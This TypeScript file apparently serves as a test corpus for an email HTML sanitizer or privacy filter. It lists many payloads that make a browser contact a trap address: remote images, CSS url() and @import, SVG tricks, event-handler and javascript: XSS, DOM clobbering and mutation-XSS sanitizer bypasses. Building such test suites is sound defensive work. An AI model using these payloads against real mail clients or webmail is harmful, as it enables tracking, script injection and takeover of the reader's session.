/** One way in which HTML in a mail may try to reach the outside, run, or take over the page that shows it. */
export interface LeakTrick {
  readonly name: string
  readonly html: string
  /** An unprotected browser falls for it at once: used to prove that the trap hears. */
  readonly bites: boolean
}

const trick = (name: string, html: string, bites = true): LeakTrick => ({ name, html, bites })

/** Tricks that fetch through an element. `at(name)` is an address of the trap. */
const elements = (at: (name: string) => string): LeakTrick[] => [
  trick('img', `<img src="${at('img')}">`),
  trick('img-unquoted', `<img src=${at('img-unquoted')} width=1>`),
  trick('img-upper-case', `<IMG SRC="${at('img-upper-case').replace('http', 'HTTP')}">`),
  trick('img-with-line-break', `<img src="${at('img-with-line-break').replace('http', 'ht\ntp')}">`),
  trick('img-with-tab', `<img src="\t${at('img-with-tab').replace('://', ':/\t/')}">`),
  trick('img-entities', `<img src="${Array.from(at('img-entities'), (sign) => `&#${sign.charCodeAt(0)};`).join('')}">`),
  trick('img-hex-entities', `<img src="${Array.from(at('img-hex-entities'), (sign) => `&#x${sign.charCodeAt(0).toString(16)}`).join(';')}">`),
  trick('img-without-scheme', `<img src="${at('img-without-scheme').replace('http:', '')}">`),
  trick('img-backslashes', `<img src="${at('img-backslashes').replace('http://', '\\\\')}">`),
  trick('img-one-slash', `<img src="${at('img-one-slash').replace('http://', 'http:\\\\')}">`),
  trick('img-srcset', `<img srcset="${at('img-srcset')} 1x, ${at('img-srcset-2')} 2x">`),
  trick('img-lowsrc', `<img lowsrc="${at('img-lowsrc')}" dynsrc="${at('img-dynsrc')}">`, false),
  trick('img-longdesc', `<img longdesc="${at('img-longdesc')}" usemap="${at('img-usemap')}">`, false),
  trick('image-element', `<image src="${at('image-element')}">`),
  trick('picture', `<picture><source srcset="${at('picture')}"><img alt=x></picture>`),
  trick('picture-media', `<picture><source media="all" srcset="${at('picture-media')} 100w" sizes="1px"><img></picture>`),
  trick('video-poster', `<video poster="${at('video-poster')}"></video>`),
  trick('video-src', `<video autoplay muted src="${at('video-src')}"></video>`),
  trick('audio-src', `<audio autoplay src="${at('audio-src')}"></audio>`),
  trick('audio-source', `<audio preload=auto><source src="${at('audio-source')}"></audio>`),
  trick('video-track', `<video src="data:video/mp4;base64,AAAA"><track default src="${at('video-track')}"></video>`, false),
  trick('iframe', `<iframe src="${at('iframe')}"></iframe>`),
  trick('iframe-srcdoc', `<iframe srcdoc="&lt;img src=&quot;${at('iframe-srcdoc')}&quot;&gt;"></iframe>`),
  trick('frameset', `<frameset><frame src="${at('frameset')}"></frameset>`, false),
  trick('object', `<object data="${at('object')}"></object>`),
  trick('object-classid', `<object classid="clsid:0" codebase="${at('object-classid')}"></object>`, false),
  trick('embed', `<embed src="${at('embed')}">`),
  trick('applet', `<applet archive="${at('applet')}" code=x></applet>`, false),
  trick('bgsound', `<bgsound src="${at('bgsound')}">`, false),
  trick('input-image', `<input type=image src="${at('input-image')}">`),
  trick('portal', `<portal src="${at('portal')}"></portal><fencedframe src="${at('fencedframe')}"></fencedframe>`, false),
  trick('body-background', `<body background="${at('body-background')}">x</body>`),
  trick('table-background', `<table background="${at('table-background')}"><tr><td background="${at('td-background')}">x</td></tr></table>`),
  trick('script-src', `<script src="${at('script-src')}"></script>`),
  trick('script-module', `<script type=module>import ${JSON.stringify(at('script-module'))}</script>`),
  trick('noscript', `<noscript><img src="${at('noscript')}"></noscript>`, false),
  trick('template', `<template><img src="${at('template')}"></template>`, false),
  trick('shadow-root', `<div><template shadowrootmode=open><img src="${at('shadow-root')}"></template></div>`, false),
  trick('speculation-rules', `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${at('speculation-rules')}"]}]}</script>`, false),
  trick('comment-in-old-browser', `<!--[if gte IE 4]><img src="${at('comment')}"><![endif]-->`, false),
  trick('conditional-comment', `<![if !mso]><img src="${at('conditional-comment')}"><![endif]>`),
]

const heads = (at: (name: string) => string): LeakTrick[] => [
  trick('link-stylesheet', `<link rel=stylesheet href="${at('link-stylesheet')}">`),
  trick('link-alternate-stylesheet', `<link rel="alternate stylesheet" href="${at('link-alternate')}">`, false),
  trick('link-in-body', `<p><link rel=stylesheet href="${at('link-in-body')}"></p>`),
  trick('link-prefetch', `<link rel=prefetch href="${at('link-prefetch')}">`),
  trick('link-preload', `<link rel=preload as=image href="${at('link-preload')}">`),
  trick('link-modulepreload', `<link rel=modulepreload href="${at('link-modulepreload')}">`),
  trick('link-preconnect', `<link rel=preconnect href="${at('link-preconnect')}">`, false),
  trick('link-dns-prefetch', `<link rel=dns-prefetch href="${at('link-dns-prefetch')}">`, false),
  trick('link-icon', `<link rel=icon href="${at('link-icon')}">`, false),
  trick('link-import', `<link rel=import href="${at('link-import')}">`, false),
  trick('link-manifest', `<link rel=manifest href="${at('link-manifest')}">`, false),
  trick('meta-refresh', `<meta http-equiv=refresh content="0;url=${at('meta-refresh')}">`),
  trick('meta-refresh-entities', `<meta http-equiv="&#114;efresh" content="0; url='${at('meta-refresh-entities')}'">`),
  trick('meta-csp-report', `<meta http-equiv=Content-Security-Policy content="img-src 'none'; report-uri ${at('meta-csp-report')}">`, false),
  trick('meta-set-cookie', `<meta http-equiv=set-cookie content="a=b">`, false),
  trick('meta-dns-prefetch-on', `<meta http-equiv=x-dns-prefetch-control content=on><a href="${at('dns')}">x</a>`, false),
  trick('base-href', `<base href="${at('base-href/')}"><img src="picture.png">`),
  trick('base-target', `<base target=_top href="${at('base-target/')}"><a href=x>x</a>`, false),
  trick('html-manifest', `<html manifest="${at('html-manifest')}"><body>x</body></html>`, false),
]

const styles = (at: (name: string) => string): LeakTrick[] => {
  const inline = (name: string, css: (url: string) => string, bites = true): LeakTrick => trick(name, `<div style="${css(at(name)).replaceAll('"', '&quot;')}">x</div>`, bites)
  const sheet = (name: string, css: (url: string) => string, bites = true): LeakTrick => trick(name, `<style>${css(at(name))}</style><div id=a class=a>x</div>`, bites)
  return [
    inline('css-background', (url) => `background:url(${url})`),
    inline('css-background-quoted', (url) => `background-image:url("${url}")`),
    inline('css-escaped-url', (url) => `background:u\\72l(${url})`),
    inline('css-escaped-scheme', (url) => `background:url(\\68 ttp${url.slice(4)})`),
    inline('css-comment-in-url', (url) => `background:/**/url(${url})/**/`),
    inline('css-entities', (url) => `background:url&#40;${url}&#41;`.replaceAll('&#40;', '(').replaceAll('&#41;', ')')),
    inline('css-upper-case', (url) => `BACKGROUND:URL(${url})`),
    inline('css-image-set', (url) => `background-image:image-set("${url}" 1x)`),
    inline('css-webkit-image-set', (url) => `background-image:-webkit-image-set(url(${url}) 1x)`),
    inline('css-cross-fade', (url) => `background-image:-webkit-cross-fade(url(${url}), url(${url}2), 50%)`),
    inline('css-list-style', (url) => `display:list-item;list-style:url(${url}) inside`),
    inline('css-border-image', (url) => `border:5px solid;border-image-source:url(${url})`),
    inline('css-mask', (url) => `mask-image:url(${url})`),
    inline('css-clip-path', (url) => `clip-path:url(${url}#a)`, false),
    inline('css-filter', (url) => `filter:url(${url}#a)`, false),
    inline('css-shape-outside', (url) => `float:left;shape-outside:url(${url})`),
    inline('css-offset-path', (url) => `offset-path:url(${url}#p)`, false),
    inline('css-cursor', (url) => `cursor:url(${url}),auto`, false),
    inline('css-variable', (url) => `--x:url(${url});background:var(--x)`),
    inline('css-src-function', (url) => `background:src("${url}")`, false),
    inline('css-expression', (url) => `width:expression(new Image().src='${url}')`, false),
    inline('css-behavior', (url) => `behavior:url(${url});-moz-binding:url(${url})`, false),
    sheet('sheet-background', (url) => `.a{background:url(${url})}`),
    sheet('sheet-import', (url) => `@import url(${url});`),
    sheet('sheet-import-string', (url) => `@import "${url}";`),
    sheet('sheet-import-layer', (url) => `@import "${url}" layer(x) supports(display:block) screen;`),
    sheet('sheet-import-after-charset', (url) => `@charset "utf-8";@import '${url}';`),
    sheet('sheet-import-escaped', (url) => `@\\69mport "${url}";`),
    sheet('sheet-font-face', (url) => `@font-face{font-family:f;src:url(${url})}.a{font-family:f}`),
    sheet('sheet-content', (url) => `.a::after{content:url(${url})}`),
    sheet('sheet-namespace', (url) => `@namespace url(${url});.a{color:red}`, false),
    sheet('sheet-media', (url) => `@media all{.a{background:url(${url})}}`),
    sheet('sheet-supports', (url) => `@supports (display:block){.a{background:url(${url})}}`),
    sheet('sheet-layer', (url) => `@layer x{.a{background:url(${url})}}`),
    sheet('sheet-container', (url) => `body{container-type:size;height:9px}@container (min-width:1px){.a{background:url(${url})}}`),
    sheet('sheet-scope', (url) => `@scope (body){.a{background:url(${url})}}`),
    sheet('sheet-nested', (url) => `body{.a{background:url(${url})}}`),
    sheet('sheet-property', (url) => `@property --p{syntax:"<image>";inherits:false;initial-value:linear-gradient(red,red)}.a{--p:url(${url});background:var(--p)}`),
    sheet('sheet-keyframes', (url) => `@keyframes k{from,to{background:url(${url})}}.a{animation:k 9s infinite}`),
    sheet('sheet-starting-style', (url) => `@starting-style{.a{background:url(${url})}}.a{background:url(${url})}`),
    sheet('sheet-attribute-leak', (url) => `[class^=a]{background:url(${url})}`),
    sheet('sheet-unicode-range', (url) => `@font-face{font-family:f;src:url(${url});unicode-range:U+78}.a{font-family:f}`),
    sheet('sheet-cursor', (url) => `.a:hover{cursor:image-set("${url}" 1x),auto}`, false),
    sheet('sheet-closes-itself', (url) => `.a[x="</style><img src=${url}>"]{color:red}`),
    sheet('sheet-selection-text', (url) => `::first-line{background:url(${url})}`, false),
    sheet('sheet-page', (url) => `@page{background:url(${url})}`, false),
    sheet('sheet-counter-style', (url) => `@counter-style c{system:cyclic;symbols:url(${url})}.a{display:list-item;list-style:c}`, false),
  ]
}

const foreign = (at: (name: string) => string): LeakTrick[] => [
  trick('svg-image', `<svg><image href="${at('svg-image')}" width=9 height=9 /></svg>`),
  trick('svg-xlink', `<svg><image xlink:href="${at('svg-xlink')}" width=9 height=9 /></svg>`),
  trick('svg-use', `<svg><use href="${at('svg-use')}#a" /></svg>`, false),
  trick('svg-fe-image', `<svg width=9 height=9><filter id=f><feImage href="${at('svg-fe-image')}"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>`),
  trick('svg-style', `<svg><style>*{background:url(${at('svg-style')})}</style><circle r=4 /></svg>`),
  trick('svg-script', `<svg><script href="${at('svg-script')}"></script></svg>`),
  trick('svg-foreign-object', `<svg width=9 height=9><foreignObject width=9 height=9><img xmlns="http://www.w3.org/1999/xhtml" src="${at('svg-foreign-object')}"/></foreignObject></svg>`),
  trick('svg-set', `<svg><a><set attributeName=href to="${at('svg-set')}" /><text y=9>x</text></a></svg>`, false),
  trick('svg-animate', `<svg><image width=9 height=9><animate attributeName=href values="${at('svg-animate')}" dur=1s /></image></svg>`, false),
  trick('svg-pattern-fill', `<svg width=9 height=9><rect width=9 height=9 fill="url(${at('svg-pattern-fill')}#a)"/></svg>`, false),
  trick('svg-data-image', `<img src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${at('svg-data-image')}"/></svg>`)}">`, false),
  trick('svg-data-base64', `<img src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("${at('svg-data-base64')}")</script></svg>`).toString('base64')}">`, false),
  trick('math-href', `<math><mtext href="${at('math-href')}">x</mtext></math>`, false),
  trick('math-link', `<math xlink:href="${at('math-link')}">CLICK</math>`, false),
  trick('math-annotation', `<math><annotation-xml encoding="text/html"><img src="${at('math-annotation')}"></annotation-xml></math>`),
  trick('xml-stylesheet', `<?xml-stylesheet href="${at('xml-stylesheet')}"?><p>x</p>`, false),
  trick('xml-island', `<xml src="${at('xml-island')}"></xml><?import namespace="t" implementation="${at('xml-import')}">`, false),
]

const acting = (at: (name: string) => string): LeakTrick[] => {
  const run = (name: string): string => `(new Image).src='${at(name)}'`
  return [
    trick('body-onload', `<body onload="${run('body-onload')}">x</body>`),
    trick('img-onerror', `<img src=x:x onerror="${run('img-onerror')}">`),
    trick('svg-onload', `<svg onload="${run('svg-onload')}"></svg>`),
    trick('details-ontoggle', `<details open ontoggle="${run('details-ontoggle')}"><summary>x</summary></details>`),
    trick('input-autofocus', `<input autofocus onfocus="${run('input-autofocus')}">`, false),
    trick('script-inline', `<script>${run('script-inline')}</script>`),
    trick('script-in-text', `<scr<script>ipt>${run('script-in-text')}</scr</script>ipt>`, false),
    trick('marquee-onstart', `<marquee onstart="${run('marquee-onstart')}">x</marquee>`, false),
    trick('animation-event', `<style>@keyframes k{}</style><p style="animation:k 1ms" onanimationstart="${run('animation-event')}">x</p>`, false),
    trick('form-autosubmit', `<form id=f action="${at('form-autosubmit')}"><button autofocus>x</button></form><script>f.submit()</script>`),
    trick('form-action-javascript', `<form action="javascript:${run('form-action-javascript')}"><input type=submit autofocus></form>`, false),
    trick('button-formaction', `<button form=f formaction="${at('button-formaction')}">x</button><form id=f></form>`, false),
    trick('a-javascript', `<a href="javascript:${run('a-javascript')}">x</a>`, false),
    trick('a-javascript-encoded', `<a href="&#106;ava&Tab;script&colon;${run('a-javascript-encoded')}">x</a>`, false),
    trick('a-data-html', `<a href="data:text/html,<script>${run('a-data-html')}</script>">x</a>`, false),
    trick('a-ping', `<a href="https://ziekenhuis.test/" ping="${at('a-ping')}">x</a>`, false),
    trick('a-download', `<a href="${at('a-download')}" download>x</a>`, false),
    trick('a-target-top', `<a href="${at('a-target-top')}" target=_top>x</a><a href="${at('a-target-parent')}" target=_parent>y</a>`, false),
    trick('a-attribution', `<a href="https://a.test/" attributionsrc="${at('a-attribution')}">x</a><img attributionsrc="${at('img-attribution')}" src="data:,x">`, false),
    trick('area', `<map name=m><area shape=default href="${at('area')}" ping="${at('area-ping')}"></map><img usemap="#m" src="data:,x" width=9 height=9>`, false),
    trick('iframe-javascript', `<iframe src="javascript:${run('iframe-javascript')}"></iframe>`, false),
    trick('object-data-html', `<object data="data:text/html,<script>${run('object-data-html')}</script>"></object>`, false),
    trick('meta-refresh-data', `<meta http-equiv=refresh content="0;url=data:text/html,<img src=${at('meta-refresh-data')}>">`, false),
    trick('blob-worker', `<script>new Worker(URL.createObjectURL(new Blob(["fetch('${at('blob-worker')}')"])))</script>`),
    trick('name-clobbering', `<form name=body><input name=attributes><input name=parentNode></form><img name=getElementById src="${at('name-clobbering')}"><form id=x><output id=x name=nodeName>`),
    trick('id-clobbering', `<a id=trustedTypes></a><a id=DOMParser></a><a id=trustedTypes name=createPolicy href="javascript:1"></a><img src="${at('id-clobbering')}">`),
    trick('custom-element', `<x-y is="iframe" onattributechanged="${run('custom-element')}"><img is=x-z src="${at('custom-element')}"></x-y>`),
    trick('popover', `<button popovertarget=p>x</button><div popover id=p onbeforetoggle="${run('popover')}"><img src="${at('popover-img')}" loading=eager></div>`),
    trick('dialog', `<dialog open><img src="${at('dialog')}"></dialog>`),
    trick('contenteditable', `<div contenteditable autofocus onfocus="${run('contenteditable')}">x</div>`, false),
  ]
}

/** Texts that mean one thing to a cleaner and another to the browser that reads them after it (mutation XSS). */
const mutations = (at: (name: string) => string): LeakTrick[] => {
  const hit = (name: string): string => `&lt;img src=1 onerror=&quot;(new Image).src='${at(name)}'&quot;&gt;`
  const raw = (name: string): string => `<img src="${at(name)}">`
  return [
    trick('mutation-math-style', `<math><mtext><table><mglyph><style><!--</style>${raw('mutation-math-style')}`, false),
    trick('mutation-math-title', `<math><mtext><table><mglyph><style><math><img title="--&gt;${hit('mutation-math-title')}"></style></math>`, false),
    trick('mutation-svg-title', `<svg></p><style><a id="</style>${raw('mutation-svg-title')}">`),
    trick('mutation-svg-p', `<svg><p><style><g title="</style>${raw('mutation-svg-p')}">`),
    trick('mutation-form-nesting', `<form><math><mtext></form><form><mglyph><style></math>${raw('mutation-form-nesting')}`, false),
    trick('mutation-noscript', `<noscript><p title="</noscript>${raw('mutation-noscript')}">`, false),
    trick('mutation-noembed', `<noembed><a title="</noembed>${raw('mutation-noembed')}"></noembed>`),
    trick('mutation-textarea', `<svg><textarea><title><img title="</title></textarea>${raw('mutation-textarea')}">`, false),
    trick('mutation-xmp', `<x/><xmp><a title="</xmp>${raw('mutation-xmp')}"></xmp>`),
    trick('mutation-plaintext', `<plaintext>${raw('mutation-plaintext')}`, false),
    trick('mutation-select', `<select><style><a title="</style>${raw('mutation-select')}"></select>`),
    trick('mutation-template', `<template><s><template><s><style><a title="</style>${raw('mutation-template')}"></template></template>`, false),
    trick('mutation-table', `<table><caption><table><style><!--</style><a title="--></table>${raw('mutation-table')}">`, false),
    trick('mutation-comment', `<!--><img src="${at('mutation-comment')}">--><p>x</p>`),
    trick('mutation-comment-bang', `<!-- --!><img src="${at('mutation-comment-bang')}">-->`),
    trick('mutation-cdata', `<svg><![CDATA[><img src="${at('mutation-cdata')}">]]></svg>`, false),
    trick('mutation-attribute-backtick', `<img alt="\`\`onerror=${at('mutation-backtick')}" title='"><img src="${at('mutation-attribute')}">'>`, false),
    trick('mutation-null', `<im\u0000g src="${at('mutation-null')}"><img s\u0000rc="${at('mutation-null-2')}">`, false),
    trick('mutation-unclosed', `<img src="${at('mutation-unclosed')}" alt="x><p>the rest`, false),
    trick('mutation-deep', `${'<div>'.repeat(600)}<table><tr><td>${'<b>'.repeat(400)}${raw('mutation-deep')}`),
    trick('mutation-select-svg', `<svg><desc><select><svg></select></desc><style><a id="</style>${raw('mutation-select-svg')}">`, false),
    trick('mutation-utf7', `+ADw-img src=+ACI-${at('mutation-utf7')}+ACI-+AD4-`, false),
    trick('mutation-annotation', `<math><annotation-xml encoding="text/html"><style><a title="</style></annotation-xml>${raw('mutation-annotation')}">`),
  ]
}

/** Every known trick; `at` gives an address of the trap for a name. */
export const trickGroups = { elements, heads, styles, foreign, acting, mutations }
export const leakTricks = (at: (name: string) => string): LeakTrick[] => Object.values(trickGroups).flatMap((group) => group(at))
